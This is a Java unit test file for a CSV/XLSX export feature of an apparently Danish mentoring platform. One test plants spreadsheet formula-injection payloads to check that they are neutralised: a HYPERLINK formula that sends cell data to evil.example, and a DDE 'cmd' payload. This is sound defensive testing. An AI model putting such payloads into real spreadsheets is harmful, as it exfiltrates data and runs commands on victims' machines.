package dk.peermentor.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class TableExportTest {

    private final TableExport table = new TableExport("Fremmøde", List.of("Kursist", "Dag 1", "Dage mødt"),
            List.of(List.of("Søren Ærø", "Mødt", 1), List.of("Åse \"Ø\"; Holm", "", 0)));

    @Test
    void csvOpensInADanishExcel() {
        byte[] csv = table.csv();
        assertEquals(0xEF, csv[0] & 0xFF, "starts with a byte-order mark");
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertEquals("Kursist;Dag 1;Dage mødt\r\nSøren Ærø;Mødt;1\r\n\"Åse \"\"Ø\"\"; Holm\";;0\r\n", text);
    }

    @Test
    void xlsxKeepsNumbersAsNumbersAndDatesAsDates() throws Exception {
        TableExport withDate = new TableExport("Hold", List.of("Hold", "Første dag", "Kursister"),
                List.of(List.of("Hold forår", LocalDate.of(2027, 1, 12), 14)));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(withDate.xlsx()))) {
            Sheet sheet = workbook.getSheet("Hold");
            assertEquals("Første dag", sheet.getRow(0).getCell(1).getStringCellValue());
            assertTrue(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold());
            assertEquals(LocalDate.of(2027, 1, 12), sheet.getRow(1).getCell(1).getLocalDateTimeCellValue().toLocalDate());
            assertEquals(CellType.NUMERIC, sheet.getRow(1).getCell(2).getCellType());
            assertEquals(14.0, sheet.getRow(1).getCell(2).getNumericCellValue());
        }
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreShownAsText() {
        List<String> planted = List.of("=HYPERLINK(\"http://evil.example/?\"&A2&B2,\"Fjordby\")", "=1+1",
                "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTab", "\rReturn", "\nLine");
        TableExport hostile = new TableExport("Hold", List.of("=Overskrift", "Antal", "Dato"),
                planted.stream().map(value -> List.<Object>of(value, -3, LocalDate.of(2027, 1, 12))).toList());
        List<String> lines = lines(hostile.csv());
        assertEquals("'=Overskrift;Antal;Dato", lines.get(0), "a header is a cell too");
        for (int i = 0; i < planted.size(); i++) {
            String cell = "'" + planted.get(i);
            String quoted = cell.matches("(?s).*[;\"\r\n].*") ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell;
            assertTrue(String.join("\r\n", lines).contains(quoted + ";-3;2027-01-12"),
                    () -> "neutralised and kept whole: " + quoted);
        }
    }

    @Test
    void ordinaryTextsNumbersAndDatesAreWrittenAsTheyAre() {
        TableExport plain = new TableExport("Hold", List.of("Navn", "Antal"),
                List.of(List.of("Anne-Mette", -3), List.of("Hold A - forår", 0.5)));
        assertEquals(List.of("Navn;Antal", "Anne-Mette;-3", "Hold A - forår;0.5"), lines(plain.csv()));
    }

    @Test
    void aCohortNameWithCharactersAWorkbookRefusesStillGivesASheet() throws Exception {
        TableExport slashed = new TableExport("Hold A/B: forår [2027]?*\\ med et meget langt navn",
                List.of("Kursist"), List.of(List.of("Søren")));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slashed.xlsx()))) {
            String name = workbook.getSheetName(0);
            assertTrue(name.startsWith("Hold A-B- forår -2027"), name);
            assertTrue(name.length() <= 31, name);
            assertEquals("Søren", workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue());
        }
    }

    private static List<String> lines(byte[] csv) {
        return List.of(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8).split("\r\n(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)"));
    }
}
